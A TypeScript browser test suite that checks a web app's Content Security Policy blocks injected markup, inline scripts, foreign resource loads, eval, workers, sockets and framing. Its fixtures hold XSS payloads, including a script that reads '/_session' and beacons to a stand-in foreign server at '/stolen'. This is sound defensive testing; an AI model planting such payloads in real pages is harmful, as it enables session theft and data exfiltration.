import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Page } from '@playwright/test'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type RunningServer, startTestServer } from '../contracts/running-server.ts'
import { browserPath, launchBrowser, needsBrowser } from './browser.ts'
import { type ForeignServer, startForeignServer } from './foreign-server.ts'

const ran = 'window.ran = [...(window.ran ?? []), '

/** What a hole in the workplace would let into its page. `evil` is a foreign address, `own` a file in our database. */
const hostileMarkup = (evil: string, own: string): string => `
  <script>${ran}'inline']</script>
  <script src="${own}"></script>
  <script src="${evil}/script.js"></script>
  <img src="/none.png" onerror="${ran}'handler']" alt="">
  <img src="${evil}/image" alt="">
  <link rel="stylesheet" href="${evil}/style">
  <link rel="prefetch" href="${evil}/prefetch">
  <style>@font-face { font-family: evil; src: url(${evil}/font) } body { font-family: evil; background: url(${evil}/background) }</style>
  <div style="width: 123px; background: url(${evil}/attribute)" id="styled">x</div>
  <iframe src="${evil}/frame"></iframe>
  <object data="${evil}/object"></object>
  <embed src="${evil}/embed">
  <video src="${evil}/video"></video>
  <base href="${evil}/">
  <a id="link" href="javascript:${ran}'link']">x</a>
  <form id="form" method="post" action="${evil}/form" target="_blank"><input name="patient" value="x"></form>`

/** What a script that got in by mistake (a dependency) would try; each names itself when it succeeds. */
const attempts = async (evil: string): Promise<string[]> => {
  // The debugger may evaluate for as long as its own call runs.
  await new Promise((resolve) => setTimeout(resolve))
  const done: string[] = []
  const tried = async (name: string, work: () => unknown): Promise<void> => {
    try {
      if ((await work()) !== false) done.push(name)
    } catch {
      // Refused, as it should be.
    }
  }
  // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
  await tried('eval', () => window.eval('1'))
  await tried('Function', () => new Function('return 1')())
  await tried('fetch', () => fetch(`${evil}/fetch`, { mode: 'no-cors' }))
  await tried('beacon', () => fetch(`${evil}/beacon`, { method: 'POST', keepalive: true, mode: 'no-cors' }))
  await tried('innerHTML', () => {
    document.createElement('div').innerHTML = '<b>x</b>'
  })
  await tried('script address', () => {
    document.createElement('script').src = `${evil}/late.js`
  })
  await tried('policy', () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(n: string, r: object): void }
    }
    trustedTypes.createPolicy('evil', {})
  })
  await tried(
    'worker',
    () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
        worker.onmessage = resolve
        worker.onerror = reject
      }),
  )
  await tried(
    'socket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${evil.replace('http', 'ws')}/socket`)
        socket.onopen = resolve
        socket.onerror = () => resolve(false)
      }),
  )
  await tried('camera', async () => {
    const { featurePolicy } = document as unknown as {
      featurePolicy: { allowsFeature(name: string): boolean }
    }
    return featurePolicy.allowsFeature('camera') || featurePolicy.allowsFeature('usb')
  })
  return done
}

describe.skipIf(!browserPath)(`the page of the workplace in a real browser${needsBrowser}`, () => {
  let folder: string
  let server: RunningServer
  let foreign: ForeignServer
  let browser: Browser
  let page: Page

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'lekar-policy-'))
    foreign = await startForeignServer()
    foreign.pages.set('/script.js', `${ran}'foreign file']`)
    const html = `<!doctype html><html><head><script nonce="__CSP_NONCE__">${ran}'ours']</script></head>
      <body>${hostileMarkup(foreign.crossSite, '/open/d/own.js')}</body></html>`
    mkdirSync(join(folder, 'renderer'))
    writeFileSync(join(folder, 'renderer/index.html'), html)
    foreign.pages.set('/unprotected', html)
    server = await startTestServer({ workplaceFolder: join(folder, 'renderer') })
    await server.ask('PUT', '/open')
    await server.ask('PUT', '/open/_security', { members: { names: [], roles: [] }, admins: {} })
    await server.ask('PUT', '/open/d/own.js', `${ran}'own file']`, {
      headers: { 'content-type': 'text/javascript' },
    })
    foreign.pages.set('/open/d/own.js', `${ran}'own file']`)
    browser = await launchBrowser()
  }, 60_000)
  afterAll(async () => {
    await browser?.close()
    await server?.stop()
    await foreign?.close()
    rmSync(folder, { recursive: true, force: true })
  })

  const open = async (url: string): Promise<string[]> => {
    page = await browser.newPage()
    foreign.asked.length = 0
    await page.goto(url, { waitUntil: 'load' })
    await page.evaluate(() => document.getElementById('link')?.click())
    await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit())
    await page.waitForTimeout(500)
    return await page.evaluate(() => (window as unknown as { ran: string[] }).ran)
  }

  it('W10 runs its own script and nothing that got into its text, and asks no foreign server', async () => {
    expect(await open(`${server.url}/app/`)).toEqual(['ours'])
    expect(foreign.asked).toEqual([])
    expect(await page.evaluate(() => document.getElementById('styled')!.style.width)).toBe('')
    expect(await page.evaluate(attempts, foreign.crossSite)).toEqual([])
    expect(foreign.asked).toEqual([])
    expect(await page.evaluate(() => document.baseURI)).toBe(`${server.url}/app/`)
    await page.close()
  }, 30_000)

  it('W10 is what keeps them out: without the policy the same page runs and asks', async () => {
    await open(`${foreign.sameSite}/unprotected`)
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { ran: string[] }).ran))
      .toEqual(expect.arrayContaining(['inline', 'own file', 'foreign file', 'handler', 'link']))
    const done = await page.evaluate(attempts, foreign.crossSite)
    expect(done).toEqual(
      expect.arrayContaining([
        'eval',
        'Function',
        'fetch',
        'innerHTML',
        'script address',
        'policy',
        'worker',
      ]),
    )
    for (const what of ['image', 'font', 'frame', 'object', 'form', 'fetch', 'socket', 'background'])
      await expect.poll(() => foreign.asked.some((line) => line.endsWith(`/${what}`))).toBe(true)
    await page.close()
  }, 30_000)

  it('W10 is shown in no frame, of another site or of this one', async () => {
    for (const site of [foreign.crossSite, foreign.sameSite]) {
      foreign.pages.set('/framing', `<iframe src="${server.url}/app/"></iframe>`)
      page = await browser.newPage()
      await page.goto(`${site}/framing`)
      await page.waitForTimeout(300)
      const inside = page.frames().filter((frame) => frame !== page.mainFrame())
      expect(inside).toHaveLength(1)
      expect(await inside[0]!.evaluate(() => (window as unknown as { ran?: string[] }).ran)).toBeUndefined()
      await page.close()
    }
  }, 30_000)

  it('W11 what somebody has attached or written runs nothing when a signed-in person opens it', async () => {
    const script = `fetch('/_session').then((answer) => answer.text()).then((text) => { new Image().src = '${foreign.crossSite}/stolen' }); new Image().src = '${foreign.crossSite}/ran'`
    const html = `<!doctype html><script>${script}</script><img src=x onerror="${script.replaceAll('"', '&quot;')}"><form action="${foreign.crossSite}/form"></form><script>document.forms[0].submit()</script>`
    const files = {
      'a.html': ['text/html', html],
      'a.xhtml': [
        'application/xhtml+xml',
        `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script.replaceAll('=>', '=&gt;')}</script></html>`,
      ],
      'a.svg': [
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg"><script>${script.replaceAll('=>', '=&gt;')}</script></svg>`,
      ],
      'a.txt': ['text/plain', html],
      'a.none': ['application/x-made-up', html],
    }
    let rev = ''
    for (const [name, [type, text]] of Object.entries(files)) {
      const put = await server.ask('PUT', `/open/e/${name}${rev}`, text, {
        headers: { 'content-type': type! },
      })
      expect(put.status).toBe(201)
      rev = `?rev=${put.json.rev}`
    }
    await server.ask('PUT', '/open/html', { text: html })
    page = await browser.newPage()
    await page.request.post(`${server.url}/_session`, { data: { name: 'admin', password: 'admin-secret' } })
    foreign.asked.length = 0
    const paths = [
      ...Object.keys(files).map((name) => `/open/e/${name}`),
      '/open/html',
      `/open/${encodeURIComponent(html)}`,
    ]
    for (const path of [...paths, `/app/${encodeURIComponent('<script>')}`, '/none', '/_session']) {
      const answer = await page.goto(server.url + path).catch(() => undefined)
      if (answer) expect(answer.headers()['content-security-policy']).toContain("default-src 'none'")
      await page.waitForTimeout(100)
    }
    expect(foreign.asked).toEqual([])
    // The same file from a server without these headers does run.
    foreign.pages.set('/a.html', html)
    await page.goto(`${foreign.sameSite}/a.html`)
    await expect.poll(() => foreign.asked).toContain('GET /ran')
    await page.close()
  }, 60_000)
})
